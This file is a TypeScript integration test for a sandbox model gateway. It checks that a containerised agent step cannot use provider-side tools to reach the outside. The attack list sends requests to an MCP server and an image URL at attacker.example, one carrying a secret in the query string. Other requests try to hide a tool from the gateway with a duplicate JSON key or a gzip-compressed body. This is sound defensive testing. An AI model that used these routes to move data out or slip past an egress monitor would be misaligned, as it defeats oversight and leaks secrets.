// Issue 13 finding 7, as an attack from inside a real container: the step asks the provider, through the model
// gateway, to fetch or search for it (server-side tools, MCP servers, URL sources, beta headers), to reach other
// endpoints (file uploads), or to hide such a request from the gateway (compressed or ambiguous JSON). None of it
// reaches the upstream; each refusal is in the egress log. A persona's sandbox.provider_tools lets its kind through.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { EgressRecord } from '../../../../src/sandbox/egress/log.js';
import { startEgressSession, type EgressSession } from '../../../../src/sandbox/egress/session.js';
import type { ResolvedEgress } from '../../../../src/sandbox/egress/sources.js';
import { httpServer, type CountingServer } from '../../../unit/sandbox/egress/helpers.js';
import { bridgeOption, cleanup, CONTAINER_USER, egressTestEnv, runStep } from './support.js';

const env = await egressTestEnv();

/** `curl` from the step to the Anthropic gateway: prints the status, then the body. */
const post = (path: string, json: string, headers: string[] = []) =>
  `curl -sS -o /tmp/body -w '%{http_code}\\n' -X POST -H 'content-type: application/json' ${headers.map((h) => `-H '${h}'`).join(' ')} --data-binary '${json}' "$ANTHROPIC_BASE_URL${path}"; cat /tmp/body; echo`;

const ATTACKS: { name: string; script: string; status: number; reason: string }[] = [
  {
    name: 'web_search tool',
    script: post(
      '/v1/messages',
      '{"model":"m","max_tokens":1,"messages":[],"tools":[{"type":"web_search_20250305","name":"web_search"}]}',
    ),
    status: 403,
    reason: 'provider_tool',
  },
  {
    name: 'web_fetch tool',
    script: post(
      '/v1/messages',
      '{"model":"m","max_tokens":1,"messages":[],"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}',
    ),
    status: 403,
    reason: 'provider_tool',
  },
  {
    name: 'MCP server list',
    script: post(
      '/v1/messages',
      '{"model":"m","max_tokens":1,"messages":[],"mcp_servers":[{"type":"url","url":"https://attacker.example/mcp","name":"x"}]}',
    ),
    status: 403,
    reason: 'provider_tool',
  },
  {
    name: 'image fetched by URL',
    script: post(
      '/v1/messages',
      '{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://attacker.example/?k=secret"}}]}]}',
    ),
    status: 403,
    reason: 'provider_tool',
  },
  {
    name: 'code execution beta header',
    script: post('/v1/messages', '{"model":"m","max_tokens":1,"messages":[]}', [
      'anthropic-beta: code-execution-2025-08-25',
    ]),
    status: 403,
    reason: 'provider_tool',
  },
  { name: 'file upload endpoint', script: post('/v1/files', '{}'), status: 404, reason: 'gateway_path' },
  {
    name: 'duplicate key hiding a tool',
    script: post(
      '/v1/messages',
      '{"model":"m","messages":[],"tools":[],"tools":[{"type":"web_search_20250305","name":"w"}]}',
    ),
    status: 400,
    reason: 'gateway_body',
  },
  {
    name: 'gzip-compressed body',
    script: `printf '{"tools":[{"type":"web_search_20250305","name":"w"}]}' | gzip > /tmp/gz; curl -sS -o /tmp/body -w '%{http_code}\\n' -X POST -H 'content-type: application/json' -H 'content-encoding: gzip' --data-binary @/tmp/gz "$ANTHROPIC_BASE_URL/v1/messages"; cat /tmp/body; echo`,
    status: 415,
    reason: 'gateway_body',
  },
];

describe('model gateway refuses server-side tools (container)', { skip: env.skip }, () => {
  let upstream: CountingServer;
  const upstreamBodies: string[] = [];
  const sessions: EgressSession[] = [];
  const records: EgressRecord[] = [];

  const start = async (providerTools: ResolvedEgress['providerTools']) => {
    const session = await startEgressSession({
      run: 'run-tools',
      step: 'agent',
      egress: {
        mode: 'allowlist',
        allow: [],
        hosts: {},
        providers: ['anthropic'],
        credentials: 'placeholder',
        providerTools,
        warnings: [],
      },
      containerUser: CONTAINER_USER,
      upstreams: { anthropic: `http://127.0.0.1:${upstream.port}` },
      hostEnv: { ANTHROPIC_API_KEY: 'sk-ant-integration-tools' },
      onRecord: (r) => records.push(r),
      lookup: async (name) => {
        throw new Error(`test resolver refuses ${name}`);
      },
      ...bridgeOption(env),
    });
    sessions.push(session);
    return session;
  };

  before(async () => {
    upstream = await httpServer((req, res) => {
      let body = '';
      req.on('data', (c: Buffer) => {
        body += c.toString();
      });
      req.on('end', () => {
        upstreamBodies.push(body);
        res.writeHead(200, { 'content-type': 'application/json' }).end('{"type":"message","ok":true}');
      });
    });
  });

  after(async () => {
    await cleanup(env);
    for (const s of sessions) await s.close();
    await upstream?.close();
  });

  it('every attack is refused with its status, reaches nothing upstream, and is logged with its reason', async () => {
    const session = await start([]);
    const script = ATTACKS.map((a) => `echo '=== ${a.name}'; ${a.script}`).join('; ');
    const r = await runStep(env, session.attachment(true)!, ['sh', '-c', script]);
    assert.equal(r.exitCode, 0, r.stderr);
    const sections = r.stdout.split(/^=== /m).slice(1);
    assert.equal(sections.length, ATTACKS.length, r.stdout);
    ATTACKS.forEach((attack, i) => {
      const [, status, body] = /^[^\n]*\n(\d+)\n([\s\S]*)$/.exec(sections[i]!) ?? [];
      assert.equal(Number(status), attack.status, `${attack.name}: ${sections[i]}`);
      assert.match(body ?? '', /wave model gateway refused the request/, attack.name);
    });
    assert.deepEqual(upstreamBodies, [], 'the upstream received none of them');
    const refusals = records.filter((rec) => rec.kind === 'gateway' && !rec.allowed);
    assert.deepEqual(
      refusals.map((rec) => [rec.reason, rec.status]),
      ATTACKS.map((a) => [a.reason, a.status]),
    );
    assert.ok(refusals.every((rec) => typeof rec.detail === 'string' && rec.detail.length > 0));
  });

  it('a persona that lists web_search gets it through, and only it', async () => {
    const session = await start(['web_search']);
    const script = `echo '=== web_search'; ${ATTACKS[0]!.script}; echo '=== web_fetch'; ${ATTACKS[1]!.script}`;
    const r = await runStep(env, session.attachment(true)!, ['sh', '-c', script]);
    assert.equal(r.exitCode, 0, r.stderr);
    assert.match(r.stdout, /=== web_search\n200\n\{"type":"message","ok":true\}/);
    assert.match(r.stdout, /=== web_fetch\n403\n/);
    assert.equal(upstreamBodies.length, 1);
    assert.match(upstreamBodies[0]!, /web_search_20250305/, 'forwarded byte for byte');
  });
});
